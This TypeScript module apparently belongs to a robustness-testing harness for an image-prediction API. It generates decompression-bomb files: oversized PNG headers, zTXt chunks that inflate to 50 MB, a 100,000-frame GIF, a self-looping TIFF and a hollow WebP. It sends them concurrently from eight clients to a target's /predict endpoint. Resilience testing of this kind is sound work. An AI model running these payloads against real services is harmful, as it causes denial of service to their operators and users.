import { crc32, deflateSync } from 'node:zlib';
import sharp, { type Sharp } from 'sharp';
import { type Attack, inTurn, repeat, Tally } from './attack.js';
import { exchange } from './exchange.js';

const CLIENTS = 8;
/** 25 megapixels: as many as default settings allow. */
const SIDE = 5000;
const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
const GREY = { r: 128, g: 128, b: 128 };

function chunk(type: string, data: Uint8Array): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const whole = Buffer.alloc(body.length + 8);
  whole.writeUInt32BE(data.length);
  body.copy(whole, 4);
  whole.writeUInt32BE(crc32(body), body.length + 4);
  return whole;
}

/** Grey, 8 bits; a thousand bytes of rows, whatever the head says. */
function png(width: number, height: number, extra: readonly Buffer[] = []): Buffer {
  const head = Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 8, 0, 0, 0, 0]);
  head.writeUInt32BE(width);
  head.writeUInt32BE(height, 4);
  const rows = deflateSync(Buffer.alloc(1000));
  return Buffer.concat([
    PNG_SIGNATURE,
    chunk('IHDR', head),
    ...extra,
    chunk('IDAT', rows),
    chunk('IEND', Buffer.of()),
  ]);
}

/** 50 MB of nothing in a text that is compressed to 50 KB. */
function zippedText(): Buffer {
  return chunk('zTXt', Buffer.concat([Buffer.from('x\0\0'), deflateSync(Buffer.alloc(50_000_000))]));
}

function gifOfFrames(frames: number): Buffer {
  const head = Buffer.from('47494638396101000100800000000000ffffff', 'hex');
  const frame = Buffer.from('2c0000000001000100000202440100', 'hex');
  return Buffer.concat([head, Buffer.alloc(frames * frame.length, frame), Buffer.from(';')]);
}

/** A directory whose next one is itself. */
function tiffInCircles(): Buffer {
  return Buffer.from('49492a000800000001000001030001000000ffff000008000000', 'hex');
}

/** The head of a lossless WebP that says 16383 x 16383, and no pixels. */
function hollowWebp(): Buffer {
  const body = Buffer.concat([
    Buffer.from('WEBPVP8L'),
    Buffer.from([5, 0, 0, 0, 0x2f, 0xfe, 0xff, 0xff, 0x0f, 0]),
  ]);
  const size = Buffer.alloc(4);
  size.writeUInt32LE(body.length);
  return Buffer.concat([Buffer.from('RIFF'), size, body]);
}

function animatedWebp(frames: number): Promise<Buffer> {
  const pixels = Buffer.alloc(16 * 16 * frames * 3);
  for (let at = 0; at < pixels.length; at++) pixels[at] = (at * 31) % 251;
  const raw = { width: 16, height: 16 * frames, channels: 3, pageHeight: 16 } as const;
  return sharp(pixels, { raw }).webp({ quality: 1, effort: 0 }).toBuffer();
}

function plain(): Sharp {
  return sharp({ create: { width: SIDE, height: SIDE, channels: 4, background: { ...GREY, alpha: 0.5 } } });
}

/** Small files that become large, or that do not end. All are well below the limit on bytes. */
export const DECOMPRESSION_BOMBS: readonly (() => Buffer | Promise<Buffer>)[] = [
  () => png(30_000, 30_000),
  () => png(2 ** 31 - 1, 2 ** 31 - 1),
  () => png(1, 25_000_000),
  () => png(SIDE, SIDE),
  () => png(8, 8, Array.from({ length: 4 }, zippedText)),
  () => png(8, 8, Array<Buffer>(100_000).fill(chunk('tEXt', Buffer.from('a\0b')))),
  () => gifOfFrames(100_000),
  tiffInCircles,
  hollowWebp,
  () => animatedWebp(300),
  () => plain().png({ compressionLevel: 1 }).toBuffer(),
  () => plain().png({ compressionLevel: 1, progressive: true }).toBuffer(),
  () => plain().toColourspace('rgb16').png({ compressionLevel: 1 }).toBuffer(),
  () => plain().webp({ lossless: true, effort: 0 }).toBuffer(),
  () => plain().jpeg({ progressive: true }).toBuffer(),
];

export const decompression: Attack = {
  name: 'decompression-bombs',
  what: 'small files that become large: huge sizes, compressed texts, frames and directories without end',
  async run(target, signal) {
    const tally = new Tally();
    // Made when their turn comes, since some take a second.
    const made = new Map<() => Buffer | Promise<Buffer>, Buffer | Promise<Buffer>>();
    const headers = { 'content-type': 'application/octet-stream' };
    await repeat(CLIENTS, signal, async (client, round) => {
      const make = inTurn(DECOMPRESSION_BOMBS, client, round);
      const file = made.get(make) ?? make();
      made.set(make, file);
      tally.add(await exchange(target, { path: '/predict', headers, body: await file }, signal));
    });
    return tally;
  },
};
